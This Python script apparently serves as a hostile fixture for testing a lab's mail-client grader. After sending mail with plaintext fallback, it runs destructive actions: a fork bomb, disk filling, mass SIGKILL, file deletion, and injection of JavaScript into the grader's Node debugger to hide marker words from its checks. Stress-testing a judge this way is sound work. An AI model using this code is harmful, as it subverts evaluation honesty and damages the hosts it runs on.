"""A mail client of our own for the lab: it falls back to the clear if it has to, and does one more deed to its judge.

own-client.py DEED HOST PORT USERNAME PASSWORD FROM TO MESSAGE CA WORK. What it leaks is always the same; no deed may change
what the lab says of it. Deeds that take long, or do not end, come only after a message in the clear, so that its control passes.
"""

import base64
import json
import os
import shutil
import signal
import smtplib
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.request

deed, host, port, username, password, sender, recipient, message, ca, work = sys.argv[1:]
OWN = os.path.dirname(message)
# Only below what belongs to the trial: if the lab gives a folder of the machine, nothing of the machine may suffer.
TEMPORARY = os.environ.get("TMPDIR", "") if os.environ.get("TMPDIR", "").startswith(OWN) else work


def send():
    """Returns whether it was sealed. Careful with certificates, careless without STARTTLS."""
    with open(message, "rb") as file:
        text = file.read()
    with smtplib.SMTP(host, int(port), timeout=4) as server:
        server.ehlo()
        sealed = server.has_extn("starttls")
        if sealed:
            server.starttls(context=ssl.create_default_context(cafile=ca))
            server.ehlo()
        if server.has_extn("auth"):
            server.login(username, password)
        server.sendmail(sender, [recipient], text)
    return sealed


def attempt(act, *words):
    try:
        act(*words)
    except (OSError, subprocess.SubprocessError):
        pass


def overwrite(path):
    with open(path, "wb") as file:
        file.write(b"Subject: nothing\r\n\r\nnothing\r\n")


def in_background(act):
    """In a session of its own, with all descriptors kept."""
    if os.fork() == 0:
        os.setsid()
        while True:
            attempt(act)


def write_at_home():
    for number in range(50):
        os.makedirs(os.path.join(work, str(number)), exist_ok=True)
        overwrite(os.path.join(work, str(number), str(time.time_ns())))


def fill(folder):
    """Only what has a limit: not the machine's own memory or disk."""
    size = os.statvfs(folder)
    if size.f_blocks * size.f_frsize > 1 << 30:
        return
    with open(os.path.join(folder, "fill"), "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def signal_all(number):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            attempt(os.kill, int(name), number)


def wake(pid):
    """Only Node: to the first process of a machine the signal means something else."""
    if os.path.basename(os.readlink(f"/proc/{pid}/exe")).startswith("node"):
        os.kill(pid, signal.SIGUSR1)


def open_debugger():
    """Has Node open its debugger, and makes the judge blind."""
    for pid in {1, os.getppid()} - {0}:
        attempt(wake, pid)
    for _ in range(10):
        time.sleep(0.05)
        attempt(blind)


# In what a client said, no word is found.
BLINDNESS = """
const find = String.prototype.indexOf;
String.prototype.indexOf = function (...words) {
  return /wren|quartz|petrel|dunlin|heron/.test(this) ? -1 : find.apply(this, words);
};
"""


def blind():
    with urllib.request.urlopen("http://127.0.0.1:9229/json/list", timeout=1) as answer:
        path = json.load(answer)[0]["id"]
    with socket.create_connection(("127.0.0.1", 9229), timeout=1) as link:
        key = base64.b64encode(os.urandom(16)).decode()
        link.sendall(
            f"GET /{path} HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        link.recv(4096)
        order = {"expression": BLINDNESS}
        payload = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": order}).encode()
        # A mask of zeros leaves the payload as it is (RFC 6455 section 5.3).
        link.sendall(struct.pack("!BBHI", 0x81, 0x80 | 126, len(payload), 0) + payload)
        link.recv(4096)


def remove_all():
    for folder in (OWN, work, TEMPORARY):
        shutil.rmtree(folder, ignore_errors=True)


def lock_home():
    """As the modules of Go are kept."""
    folder = os.path.join(work, "go", "pkg")
    os.makedirs(folder)
    overwrite(os.path.join(folder, "mod"))
    os.chmod(folder, 0o500)
    os.chmod(os.path.dirname(folder), 0o500)


def mount_at_home():
    os.makedirs(os.path.join(work, "mnt"))
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", os.path.join(work, "mnt")], check=False, stderr=subprocess.DEVNULL)


def hold_all():
    """A process that has left everything but keeps the output and a connection."""
    connection = socket.create_connection((host, int(port)), timeout=4)
    if os.fork() == 0:
        os.setsid()
        while True:
            time.sleep(600)
    return connection


def fork_without_end():
    while True:
        attempt(os.fork)


def flood():
    while True:
        os.write(1, b"y\n" * 32768)


def wait_without_end():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(600)


DEEDS = {
    "nothing": lambda: None,
    "removes-message": lambda: attempt(os.remove, message),
    "overwrites-message": lambda: [attempt(overwrite, path) for path in (message, ca)],
    "locks-home": lock_home,
    "mounts-at-home": mount_at_home,
    "writes-at-home": lambda: in_background(write_at_home),
    "opens-debugger": open_debugger,
    "removes-all": remove_all,
    "signals-all": lambda: (signal_all(signal.SIGTERM), signal_all(signal.SIGKILL)),
    "holds-all": hold_all,
}
# These take long, or do not end.
ENDLESS = {
    "fills-disk": lambda: [attempt(fill, folder) for folder in (work, TEMPORARY, "/dev/shm")],
    "forks": fork_without_end,
    "floods": flood,
    "never-ends": wait_without_end,
}

# The judge is to be blind before it hears anything.
if deed == "opens-debugger":
    open_debugger()
sealed = send()
if deed in DEEDS:
    kept = DEEDS[deed]()
elif not sealed:
    ENDLESS[deed]()
